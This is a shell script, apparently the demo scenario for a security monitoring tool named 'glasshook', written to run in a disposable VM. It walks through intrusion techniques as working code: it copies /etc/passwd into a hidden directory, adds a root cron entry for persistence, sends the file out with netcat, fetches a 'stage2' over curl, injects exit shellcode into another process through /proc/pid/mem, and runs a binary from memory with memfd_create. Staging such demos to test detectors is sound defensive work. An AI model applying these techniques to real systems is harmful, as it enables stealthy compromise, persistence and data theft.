#!/bin/sh
# A short, harmless intrusion for `glasshook demo`. It runs in a VM that is thrown away; its network
# leads nowhere.
set -u
echo "story: a shell drops a script and runs it"
cat >/tmp/update.sh <<'SCRIPT'
#!/bin/sh
set -u
nest=/dev/shm/.cache
mkdir -p $nest

echo "story: it hides what it takes"
cp /etc/passwd /tmp/report
mv /tmp/report $nest/.report
chmod 600 $nest/.report

echo "story: it comes back by cron"
mkdir -p /etc/cron.d
echo "* * * * * root $nest/update.sh" >/etc/cron.d/system-update

echo "story: it calls home"
busybox nc -l -p 4444 >/dev/null &
busybox usleep 300000
busybox nc 127.0.0.1 4444 <$nest/.report
curl -s -m 1 http://203.0.113.66/stage2

echo "story: it injects code into another process"
sleep 3 &
victim=$!
python3 /tmp/inject.py $victim
wait $victim
echo "story: the other process ended with status $? instead of 0"

echo "story: it runs a program that is in no file"
gzip -c /bin/busybox >$nest/blob
python3 /tmp/unpack.py $nest/blob

rm -f /tmp/update.sh /tmp/inject.py /tmp/unpack.py $nest/blob
SCRIPT
cat >/tmp/inject.py <<'PYTHON'
"""Makes a sleeping process leave with status 42, twice written to from outside."""
import ctypes, os, struct, sys

pid = int(sys.argv[1])
proc = f"/proc/{pid}"
stack = next(line for line in open(f"{proc}/maps") if "[stack]" in line)
bottom = int(stack.split("-")[0], 16)

# One write into its stack, by system call ...
note = ctypes.create_string_buffer(b"hello from elsewhere")
class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
local = Iovec(ctypes.addressof(note), len(note))
remote = Iovec(bottom, len(note))
libc = ctypes.CDLL(None, use_errno=True)
libc.process_vm_writev(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)

# ... and one over the code it goes on with when its sleep ends: exit_group(42).
fields = open(f"{proc}/syscall").read().split()
resume_at = int(fields[-1], 16)
code = b"\xbf" + struct.pack("<I", 42) + b"\xb8" + struct.pack("<I", 231) + b"\x0f\x05"
memory = os.open(f"{proc}/mem", os.O_RDWR)
os.pwrite(memory, code, resume_at)
PYTHON
cat >/tmp/unpack.py <<'PYTHON'
"""Unpacks a program into memory and becomes it."""
import gzip, os, sys

program = gzip.open(sys.argv[1]).read()
memory = os.memfd_create("update", 0)
os.write(memory, program)
os.execv(f"/proc/self/fd/{memory}", ["busybox", "id"])
PYTHON
chmod +x /tmp/update.sh
exec /tmp/update.sh
